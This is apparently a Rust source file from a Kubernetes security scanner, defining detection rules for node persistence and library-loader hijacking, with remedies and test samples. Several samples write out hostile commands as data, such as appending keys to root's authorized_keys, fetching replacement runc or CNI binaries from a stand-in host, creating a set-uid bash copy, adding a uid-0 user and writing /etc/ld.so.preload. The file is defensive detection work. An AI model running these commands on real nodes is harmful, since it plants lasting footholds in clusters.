//! Things that stay: jobs and keys planted on the node, and libraries slipped under other programs.

use super::planted::plants;
use super::words::operands;
use super::{COMMAND, Facts, Rule, Sample, Severity};
use crate::detect::catalog::{Exposure, Remedy, Step, links};
use crate::detect::files::{Access, below};
use crate::detect::findings::Collector;
use crate::normalize::Invocation;

pub(super) static RULES: &[Rule] = &[
    Rule {
        id: "cmd-host-persistence",
        title: "Persistence on the node",
        message: "plants something on the node that stays",
        meaning: "It writes where the node looks for jobs, units, keys, users or static pods, replaces a program that \
                  the node starts, brings one there from a host without a name, or leaves a set-uid file. Paths are \
                  read through the pod's mounts: what is written to the mount, by whatever tool, is written to the \
                  node.",
        false_positives: "Installers of node add-ons that write units or unpack into /etc or the root of the node.",
        confirm: &[
            Step::Fields(
                "..hostPath",
                "Which place on the node the write ends up in: the container's path is below the mountPath \
                 of this volume.",
            ),
            Step::Object("What is written: a cron line, a unit, a key, a static pod. Keep it word for word."),
            Step::Logs("Whether the write succeeded."),
        ],
        remedy: Remedy {
            exposes: &[Exposure::Node, Exposure::Token],
            attack: "Remove nothing yet. Collect the planted file from each node it ran on, with its \
                     times, then rebuild those nodes: what was planted may have started something else \
                     since.",
            benign: "Bring files to nodes with the node image, cloud-init or configuration management. An \
                     add-on that must install itself is a DaemonSet of a reviewed image that mounts only \
                     the one directory it writes.",
        },
        severity: Severity::Medium,
        points: 35,
        techniques: &["T1053.003", "T1543.002", "T1098.004"],
        references: &[links::VOLUMES, links::POD_SECURITY],
        check: |facts, found| {
            for run in &facts.runs {
                if let Some(at) = plants(run) {
                    found.hit(Some(&run.container.name), run.path(), &run.show(at));
                }
            }
        },
        samples: &[
            Sample::Hit(
                35,
                "volumes: [{name: v, hostPath: {path: /etc/cron.d}}]\ncontainers: [{name: a, command: [sh, -c, 'echo \"* * * * * root id\" > /c/x'], volumeMounts: [{name: v, mountPath: /c}]}]",
            ),
            Sample::Hit(
                35,
                "volumes: [{name: v, hostPath: {path: /}}]\ncontainers: [{name: a, command: [sh, -c, 'cat /k >> /host/root/.ssh/authorized_keys'], volumeMounts: [{name: v, mountPath: /host}]}]",
            ),
            Sample::Hit(
                35,
                "volumes: [{name: v, hostPath: {path: /etc}}]\ncontainers: [{name: a, command: [sh, -c, 'cd /h/systemd && cp /p/x.service system/'], volumeMounts: [{name: v, mountPath: /h}]}]",
            ),
            Sample::Hit(
                35,
                "volumes: [{name: v, hostPath: {path: /}}]\ncontainers: [{name: a, command: [chroot, /h, sh, -c, 'tee /etc/kubernetes/manifests/x.yaml < /p'], volumeMounts: [{name: v, mountPath: /h}]}]",
            ),
            Sample::Hit(
                35,
                "containers: [{name: a, command: [sh, -c, 'mount /dev/sda1 /m; echo x > /m/etc/crontab']}]",
            ),
            Sample::Hit(
                35,
                "containers: [{name: a, command: [nsenter, -t, '1', -m, --, sh, -c, 'echo x | crontab -']}]",
            ),
            Sample::Hit(
                35,
                "volumes: [{name: v, hostPath: {path: /}}]\ncontainers: [{name: a, command: [python3, -c, 'open(\"/h/etc/cron.d/x\",\"w\").write(\"x\")'], volumeMounts: [{name: v, mountPath: /h}]}]",
            ),
            Sample::Hit(
                35,
                "volumes: [{name: v, hostPath: {path: /}}]\ncontainers: [{name: a, command: [python3, -c, 'import pathlib,os;(pathlib.Path(os.path.join(\"/h\",\"etc/cron.d/x\"))).write_text(\"x\")'], volumeMounts: [{name: v, mountPath: /h}]}]",
            ),
            Sample::Hit(
                35,
                "volumes: [{name: v, hostPath: {path: /}}]\ncontainers: [{name: a, command: [perl, -e, 'open(F,\">>\",\"/h/root/.ssh/authorized_keys\");print F 1'], volumeMounts: [{name: v, mountPath: /h}]}]",
            ),
            Sample::Hit(
                35,
                "volumes: [{name: v, hostPath: {path: /etc}}]\ncontainers: [{name: a, command: [node, -e, 'require(\"fs\").appendFileSync(\"/e/crontab\",\"x\")'], volumeMounts: [{name: v, mountPath: /e}]}]",
            ),
            Sample::Hit(
                35,
                "volumes: [{name: v, hostPath: {path: /etc}}]\ncontainers: [{name: a, command: [ruby, -e, 'File.write(\"/e/profile.d/x.sh\",\"x\")'], volumeMounts: [{name: v, mountPath: /e}]}]",
            ),
            Sample::Hit(
                35,
                "volumes: [{name: v, hostPath: {path: /}}]\ncontainers: [{name: a, command: [sh, -c, 'curl -s https://x.test/r | tar xzf - -C /h'], volumeMounts: [{name: v, mountPath: /h}]}]",
            ),
            Sample::Hit(
                35,
                "volumes: [{name: v, hostPath: {path: /etc/systemd/system}}]\ncontainers: [{name: a, command: [unzip, -o, /p.zip, -d, /u], volumeMounts: [{name: v, mountPath: /u}]}]",
            ),
            Sample::Hit(
                35,
                "volumes: [{name: v, hostPath: {path: /etc}}]\ncontainers: [{name: a, command: [sh, -c, 'printf \"a\\nx\\n.\\nw\\n\" | ed /e/crontab'], volumeMounts: [{name: v, mountPath: /e}]}]",
            ),
            Sample::Hit(
                35,
                "volumes: [{name: v, hostPath: {path: /etc}}]\ncontainers: [{name: a, command: [sh, -c, 'cd /e && patch -p1 < /p'], volumeMounts: [{name: v, mountPath: /e}]}]",
            ),
            Sample::Hit(
                35,
                "volumes: [{name: v, hostPath: {path: /usr/bin}}]\ncontainers: [{name: a, command: [sh, -c, 'cp /payload /h/runc && chmod +x /h/runc'], volumeMounts: [{name: v, mountPath: /h}]}]",
            ),
            Sample::Hit(
                35,
                "volumes: [{name: v, hostPath: {path: /opt/cni/bin}}]\ncontainers: [{name: a, command: [wget, -qO, /cni/loopback, 'http://192.0.2.40/l'], volumeMounts: [{name: v, mountPath: /cni}]}]",
            ),
            Sample::Hit(
                35,
                "volumes: [{name: v, hostPath: {path: /opt/cni/bin}}]\ncontainers: [{name: a, command: [sh, -c, 'curl -o /tmp/l http://192.0.2.40/l; cp /tmp/l /cni/loopback'], volumeMounts: [{name: v, mountPath: /cni}]}]",
            ),
            Sample::Hit(
                35,
                "volumes: [{name: v, hostPath: {path: /opt}}]\ncontainers: [{name: a, command: [sh, -c, 'cp /bin/bash /h/.b; chmod 4755 /h/.b'], volumeMounts: [{name: v, mountPath: /h}]}]",
            ),
            Sample::Hit(
                35,
                "hostPID: true\ncontainers: [{name: a, command: [sh, -c, 'echo x >> /proc/$(pgrep -x kubelet)/root/etc/crontab']}]",
            ),
            Sample::Hit(
                35,
                "volumes: [{name: v, hostPath: {path: /}}]\ncontainers: [{name: a, command: [useradd, --root, /h, -o, -u, '0', x], volumeMounts: [{name: v, mountPath: /h}]}]",
            ),
            Sample::Miss(
                "volumes: [{name: v, hostPath: {path: /opt/cni/bin}}]\ncontainers: [{name: a, command: [sh, -c, 'curl -sL https://dl.example.test/cni.tgz | tar -xz -C /h && chmod 755 /h/*'], volumeMounts: [{name: v, mountPath: /h}]}]",
            ),
            Sample::Miss(
                "volumes: [{name: v, hostPath: {path: /opt/driver}}]\ncontainers: [{name: a, command: [sh, -c, 'cp -r /driver/. /h/ && chmod -R 755 /h'], volumeMounts: [{name: v, mountPath: /h}]}]",
            ),
            Sample::Miss(
                "volumes: [{name: v, hostPath: {path: /}}]\ncontainers: [{name: a, command: [python3, -c, 'print(open(\"/h/etc/crontab\").read())'], volumeMounts: [{name: v, mountPath: /h}]}]",
            ),
            Sample::Miss(
                "volumes: [{name: v, hostPath: {path: /var/backups}}]\ncontainers: [{name: a, command: [tar, czf, /b/etcd.tgz, -C, /, snapshot], volumeMounts: [{name: v, mountPath: /b}]}]",
            ),
            Sample::Miss(
                "containers: [{name: a, command: [sh, -c, 'tar xzf /p.tgz -C / && chmod u+s /usr/bin/ping']}]",
            ),
            Sample::Miss(
                "containers: [{name: a, command: [sh, -c, 'echo \"* * * * * backup\" > /etc/crontabs/root; crond -f']}]",
            ),
            Sample::Miss(
                "containers: [{name: a, command: [sh, -c, 'echo \"0 * * * * /app/x\" | crontab -; crond -f']}]",
            ),
            Sample::Miss(
                "volumes: [{name: v, hostPath: {path: /opt/cni/bin}}]\ncontainers: [{name: a, command: [cp, /bin/cni, /h/cni], volumeMounts: [{name: v, mountPath: /h}]}]",
            ),
            Sample::Miss(
                "volumes: [{name: v, hostPath: {path: /}}]\ncontainers: [{name: a, command: [cat, /h/etc/crontab], volumeMounts: [{name: v, mountPath: /h}]}]",
            ),
            Sample::Miss(
                "volumes: [{name: v, hostPath: {path: /}}, {name: e, emptyDir: {}}]\ncontainers: [{name: a, command: [sh, -c, 'echo x > /h/etc/cron.d/x'], volumeMounts: [{name: v, mountPath: /h}, {name: e, mountPath: /h/etc}]}]",
            ),
        ],
        ..COMMAND
    },
    Rule {
        id: "cmd-loader-env",
        title: "Code loaded by an environment variable",
        message: "sets a variable that makes other programs load code",
        meaning: "LD_PRELOAD, BASH_ENV and their kin run code inside every program that is started with them.",
        false_positives: "Memory allocators (jemalloc, tcmalloc) and libfaketime are preloaded this way, and weigh 3.",
        confirm: &[Step::Search(
            "LD_PRELOAD|LD_AUDIT|LD_LIBRARY_PATH|BASH_ENV|PYTHONSTARTUP|NODE_OPTIONS|PERL5OPT|RUBYOPT|GIT_SSH_COMMAND",
            "The variable and the library or script that it names. See where that file comes from: the \
                 image, a volume that an init container writes, or a download.",
        )],
        remedy: Remedy {
            exposes: &[Exposure::Token, Exposure::Secrets],
            attack: "Get the file that the variable names, from the image or the volume: it is the \
                     payload, and the visible command is only its carrier.",
            benign: "Build the allocator or agent into the image and set the variable there, or wrap the \
                     program in an entry point that the image owns.",
        },
        severity: Severity::Medium,
        points: 25,
        techniques: &["T1574.006"],
        references: &[links::LD_SO, links::IMAGES],
        check: loader_env,
        samples: &[
            Sample::Hit(25, "containers: [{name: a, env: [{name: LD_PRELOAD, value: /tmp/x.so}]}]"),
            Sample::Hit(
                3,
                "containers: [{name: a, env: [{name: LD_PRELOAD, value: /usr/lib/libjemalloc.so.2}]}]",
            ),
            Sample::Hit(15, "containers: [{name: a, env: [{name: BASH_ENV, value: /tmp/x}]}]"),
            Sample::Hit(
                15,
                "containers: [{name: a, env: [{name: NODE_OPTIONS, value: '--require /tmp/x.js'}]}]",
            ),
            Sample::Hit(25, "containers: [{name: a, command: [sh, -c, 'export LD_PRELOAD=/tmp/x.so; id']}]"),
            Sample::Hit(25, "containers: [{name: a, command: [sh, -c, 'LD_PRELOAD=/tmp/x.so id']}]"),
            Sample::Miss(
                "containers: [{name: a, env: [{name: NODE_OPTIONS, value: '--max-old-space-size=4096'}]}]",
            ),
            Sample::Miss(
                "containers: [{name: a, env: [{name: GIT_SSH_COMMAND, value: 'ssh -i /k -o StrictHostKeyChecking=no'}]}]",
            ),
            Sample::Miss("containers: [{name: a, env: [{name: LD_LIBRARY_PATH, value: /usr/lib/cuda}]}]"),
        ],
        ..COMMAND
    },
    Rule {
        id: "cmd-loader-hijack",
        title: "Write to the system-wide preload list",
        message: "writes the list of libraries that every program loads",
        meaning: "A library in /etc/ld.so.preload is loaded into every program: the way of user-land rootkits.",
        false_positives: "None known.",
        confirm: &[
            Step::Object("The command that writes /etc/ld.so.preload and the library that it enters there."),
            Step::Fields(
                "..hostPath",
                "Whether /etc of the node is mounted: then every program of the node loads the library, \
                 not only those of the container.",
            ),
        ],
        remedy: Remedy {
            exposes: &[Exposure::Node, Exposure::Token, Exposure::Secrets],
            attack: "Get the library and look at it on a machine that does not load it. On a node with \
                     such an entry no tool can be trusted: look at the disk from outside, then rebuild the \
                     node.",
            benign: "None known. An allocator for one program is set with LD_PRELOAD in the image.",
        },
        severity: Severity::Medium,
        points: 40,
        techniques: &["T1574.006", "T1014"],
        references: &[links::LD_SO],
        check: |facts, found| {
            for run in &facts.runs {
                let is_list = |path: &str| below(path, "/etc/ld.so.preload");
                let hit = run.files.iter().find(|file| {
                    file.access == Access::Write
                        && (is_list(&file.path) || file.host.as_deref().is_some_and(is_list))
                });
                if let Some(file) = hit {
                    found.hit(Some(&run.container.name), run.path(), &run.show(file.by));
                }
            }
        },
        samples: &[
            Sample::Hit(
                40,
                "containers: [{name: a, command: [sh, -c, 'echo /tmp/x.so > /etc/ld.so.preload']}]",
            ),
            Sample::Miss("containers: [{name: a, command: [cat, /etc/ld.so.preload]}]"),
        ],
        ..COMMAND
    },
];

/// Preloaded libraries that are common and harmless.
const KNOWN_PRELOADS: &[&str] = &[
    "jemalloc",
    "tcmalloc",
    "mimalloc",
    "faketime",
    "eatmydata",
    "nss_wrapper",
    "uid_wrapper",
    "gcompat",
    "hugetlbfs",
    "gomp",
];

fn weigh_variable(name: &str, value: &str) -> Option<(Severity, i32)> {
    let has = |needles: &[&str]| needles.iter().any(|needle| value.contains(needle));
    match name {
        _ if value.is_empty() => None,
        "LD_PRELOAD" | "LD_AUDIT" => {
            let known = value.split([':', ' ']).all(|library| {
                let file = library.rsplit('/').next().unwrap_or(library);
                let stem = file.strip_prefix("lib").unwrap_or(file);
                KNOWN_PRELOADS.iter().any(|known| stem.starts_with(known))
            });
            Some(if known { (Severity::None, 3) } else { (Severity::Medium, 25) })
        }
        "BASH_ENV" | "PYTHONSTARTUP" | "PROMPT_COMMAND" | "PERL5DB" => Some((Severity::Low, 15)),
        "NODE_OPTIONS" if has(&["--require", "-r ", "--import", "--loader"]) => Some((Severity::Low, 15)),
        "PERL5OPT" | "RUBYOPT" if has(&["-M", "-r"]) => Some((Severity::Low, 15)),
        "GIT_SSH_COMMAND" | "GIT_SSH" if has(&["ProxyCommand", "sh -c", ";", "|", "/tmp/", "curl"]) => {
            Some((Severity::Low, 15))
        }
        _ => None,
    }
}

fn loader_env(facts: &Facts<'_>, found: &mut Collector<'_>) {
    for container in &facts.workload.containers {
        for (name, value) in &container.env {
            if let Some((severity, points)) = weigh_variable(name, value) {
                let path = format!("{}.env", container.path);
                found.hit_as(severity, points, Some(&container.name), &path, &format!("{name}=***"));
            }
        }
    }
    for run in &facts.runs {
        let variables = |call: &Invocation| {
            let exported =
                operands(call).filter(|_| matches!(call.program.as_str(), "export" | "declare" | "typeset"));
            let own = call.assignments.iter().filter_map(|(name, value)| weigh_variable(name, value));
            own.chain(
                exported.filter_map(|word| word.split_once('=')).filter_map(|(n, v)| weigh_variable(n, v)),
            )
            .max_by_key(|w| w.1)
        };
        let hit = run.invocations().find_map(|(at, call)| variables(call).map(|weight| (at, weight)));
        if let Some((at, (severity, points))) = hit {
            found.hit_as(severity, points, Some(&run.container.name), run.path(), &run.show(at));
        }
    }
}
